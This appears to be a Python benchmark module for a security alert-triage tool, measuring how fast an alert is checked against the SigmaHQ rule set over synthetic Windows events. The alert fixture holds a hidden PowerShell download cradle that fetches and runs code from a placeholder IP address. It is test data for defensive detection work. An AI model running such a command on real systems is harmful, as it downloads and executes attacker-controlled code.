"""``garrison bench triage`` with the SigmaHQ corpus: one alert, N Windows events on its host, every rule.

Three figures beside one baseline: loading the rule set in a process (the converted corpus is cached on
disk, so this is reading the cache), triage of the alert with the rule set loaded (warm, median), and a
cold ``garrison triage ALERT --events FILE`` as a new process (Python start, imports, the rule set, the
events read from the file, the verdict). The baseline is one pass over the same events reading one field
of each: the floor for anything that looks at all of them.
"""

from __future__ import annotations

import json
import statistics
import subprocess
import sys
import tempfile
import time
from dataclasses import asdict, dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from flows.models import Alert
from flows.sigma import rules_for
from flows.store import event_row
from flows.tenants import Policy
from flows.triage import MemoryTelemetry, triage

from ._windows import windows_events

_END = datetime(2026, 11, 15, 9, 0, tzinfo=UTC)
_HOST = "WS-FIN-07.corp.acme.example"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
COLD_TIMEOUT = 300.0


@dataclass
class SigmaBenchmark:
    events: int
    rules: int  # rules in the set the alert is judged by
    rules_load_s: float  # the rule set into a new process (from the converted-rules cache)
    warm_ms_median: float  # triage of the alert, rule set loaded, events in memory
    cold_s: float  # `garrison triage ALERT --events FILE --json` as a new process
    baseline_ms_median: float  # one pass over the events, one field each
    warm_vs_baseline: float
    matched: list[str]  # titles of the rules that matched (the first ten)
    verdict: str

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


def _alert_document() -> dict[str, Any]:
    cradle = (
        "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a')"
    )
    return {
        "class_uid": 2004,
        "severity_id": 4,
        "time": int(_END.timestamp() * 1000),
        "metadata": {"tenant_uid": "acme", "product": {"name": "bench EDR"}},
        "finding_info": {"uid": "bench-sigma-1", "title": "PowerShell download cradle"},
        "device": {"hostname": _HOST},
        "evidences": [
            {
                "process": {
                    "name": "powershell.exe",
                    "file": {"name": "powershell.exe", "path": _POWERSHELL},
                    "cmd_line": cradle,
                }
            }
        ],
    }


def _median_ms(run: Any, repeat: int) -> float:
    timings = []
    for _ in range(repeat):
        started = time.perf_counter()
        run()
        timings.append((time.perf_counter() - started) * 1000)
    return round(statistics.median(timings), 2)


def _cold(alert: dict[str, Any], documents: list[dict[str, Any]]) -> float:
    with tempfile.TemporaryDirectory(prefix="garrison-bench-") as folder:
        alert_file, events_file = Path(folder) / "alert.json", Path(folder) / "events.ndjson"
        alert_file.write_text(json.dumps(alert), encoding="utf-8")
        events_file.write_text("\n".join(json.dumps(d) for d in documents) + "\n", encoding="utf-8")
        argv = [sys.executable, "-m", "flows.cli", "triage", str(alert_file), "--events", str(events_file)]
        started = time.perf_counter()
        done = subprocess.run(
            [*argv, "--now", _END.isoformat(), "--json"], capture_output=True, timeout=COLD_TIMEOUT
        )
        seconds = time.perf_counter() - started
    if done.returncode not in (0, 1, 2):  # a verdict's exit codes; anything else is a failure
        said = done.stderr.decode(errors="replace")[-500:]
        raise RuntimeError(f"garrison triage failed in the benchmark (exit {done.returncode}): {said}")
    return seconds


_LOAD = (
    "import time; from flows.sigma import rules_for; started = time.perf_counter(); rules_for(None); "
    "print(time.perf_counter() - started)"
)


def _load_in_new_process() -> float:
    # In a process of its own: this one may hold the rule set already (an earlier triage loaded it).
    done = subprocess.run([sys.executable, "-c", _LOAD], capture_output=True, timeout=COLD_TIMEOUT)
    if done.returncode != 0:
        said = done.stderr.decode(errors="replace")[-500:]
        raise RuntimeError(f"the Sigma rule set did not load in the benchmark: {said}")
    return float(done.stdout.split()[-1])


def run_sigma_benchmark(events: int = 10_000, repeat: int = 3) -> SigmaBenchmark:
    """Triage one alert with ``events`` Windows events on its host against the full SigmaHQ rule set."""
    document = _alert_document()
    alert = Alert.model_validate(document)
    documents = windows_events(events, _HOST, _END)
    rows = [event_row(d, "acme") for d in documents]
    memory = MemoryTelemetry(rows)
    indicators = alert.indicators()
    rules = rules_for(None)
    load_s = _load_in_new_process()
    result = triage([alert], indicators, Policy(), memory, _END)  # builds the rule groups it needs
    warm_ms = _median_ms(lambda: triage([alert], indicators, Policy(), memory, _END), repeat)
    cold_s = _cold(document, documents)
    baseline_ms = _median_ms(
        lambda: sum(1 for r in rows if "whoami" in str((r["document"].get("process") or {}).get("cmd_line"))),
        repeat,
    )
    sigma = result.features.get("sigma", {})
    return SigmaBenchmark(
        events=events,
        rules=len(rules.rules),
        rules_load_s=round(load_s, 3),
        warm_ms_median=warm_ms,
        cold_s=round(cold_s, 2),
        baseline_ms_median=baseline_ms,
        warm_vs_baseline=round(warm_ms / baseline_ms, 1) if baseline_ms else 0.0,
        matched=[str(m["title"]) for m in sigma.get("matched", [])][:10],
        verdict=result.verdict.verdict.value,
    )
